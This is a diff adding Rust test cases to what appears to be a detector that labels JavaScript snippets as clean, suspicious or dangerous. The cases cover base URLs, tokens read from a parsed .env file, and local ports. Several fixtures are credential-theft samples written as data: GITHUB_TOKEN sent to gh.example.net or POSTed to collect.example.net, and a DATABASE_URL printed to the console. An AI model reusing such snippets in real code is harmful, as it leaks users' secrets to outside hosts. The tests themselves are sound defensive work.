@@ -12120,3 +12120,83 @@ fn a_member_holds_what_was_stored_in_it_not_every_constructor_argument() {
         check(lang, &code, verdict, category);
     }
 }
+
+/// A base URL with its trailing slashes dropped by a regular expression
+/// (`.replace(/\/+$/, '')`) keeps its host: a token sent there goes to the API the default
+/// names, and a default naming another host is still exfiltration.
+#[test]
+fn base_urls_with_trailing_slashes_dropped_keep_their_host() {
+    for (default, pattern, verdict, category) in [
+        ("https://api.github.com/", "/\\/+$/", Clean, ""),
+        ("https://api.github.com", "/\\/$/", Clean, ""),
+        (
+            "https://gh.example.net/",
+            "/\\/+$/",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            "https://gh.example.net",
+            "/\\/$/",
+            Dangerous,
+            "exfiltration",
+        ),
+    ] {
+        let code = format!(
+            "const API = (process.env.GITHUB_API_URL || '{default}').replace({pattern}, '');\nasync function get(p) {{\n  const r = await fetch(`${{API}}${{p}}`, {{ headers: {{ Authorization: `Bearer ${{process.env.GITHUB_TOKEN}}` }} }});\n  return r.json();\n}}\nget('/user/repos');\n"
+        );
+        check(Js, &code, verdict, category);
+    }
+}
+
+/// A variable read by name from the settings a script parsed out of the project's `.env`
+/// is that one variable: a token goes to its own API like the environment's, a plain
+/// setting printed is no leak. The same token sent elsewhere, or a URL that holds a password
+/// printed, is still exfiltration.
+#[test]
+fn variables_read_by_name_from_a_parsed_dotenv() {
+    let load = "const fs = require('node:fs');\nfunction settings() {\n  const out = {};\n  if (!fs.existsSync('.env')) return out;\n  for (const row of fs.readFileSync('.env', 'utf8').split('\\n')) {\n    const at = row.indexOf('=');\n    if (at > 0) out[row.slice(0, at).trim()] = row.slice(at + 1).trim();\n  }\n  return out;\n}\n";
+    for (tail, verdict, category) in [
+        (
+            "const KEY = process.env.GITHUB_TOKEN || settings().GITHUB_TOKEN;\nfetch('https://api.github.com/user', { headers: { Authorization: `token ${KEY}` } });\n",
+            Clean,
+            "",
+        ),
+        (
+            "const LOCAL = { ...settings(), ...process.env };\nconsole.log(`serving on port ${LOCAL.WEB_PORT || 3000}`);\n",
+            Clean,
+            "",
+        ),
+        (
+            "const KEY = process.env.GITHUB_TOKEN || settings().GITHUB_TOKEN;\nfetch('https://collect.example.net/in', { method: 'POST', body: KEY });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            "const LOCAL = { ...settings(), ...process.env };\nconsole.log(`database: ${LOCAL.DATABASE_URL}`);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ] {
+        check(Js, &format!("{load}{tail}"), verdict, category);
+    }
+}
+
+/// A URL on this machine whose port takes several values (a helper given a literal port and
+/// one known only at run time) is still on this machine; a host known only at run time on
+/// such a port is still a host nobody knows.
+#[test]
+fn local_urls_with_several_ports() {
+    check(
+        Js,
+        "async function probe(port) {\n  const res = await fetch(`http://127.0.0.1:${port}/livez`);\n  return res.status;\n}\nprobe(8080);\nprobe(Number(process.argv[2]));\n",
+        Clean,
+        "",
+    );
+    check(
+        Js,
+        "async function probe(host, port) {\n  const res = await fetch(`http://${host}:${port}/livez`);\n  return res.status;\n}\nprobe('127.0.0.1', 8080);\nprobe(process.argv[2], Number(process.argv[3]));\n",
+        Suspicious,
+        "network",
+    );
+}
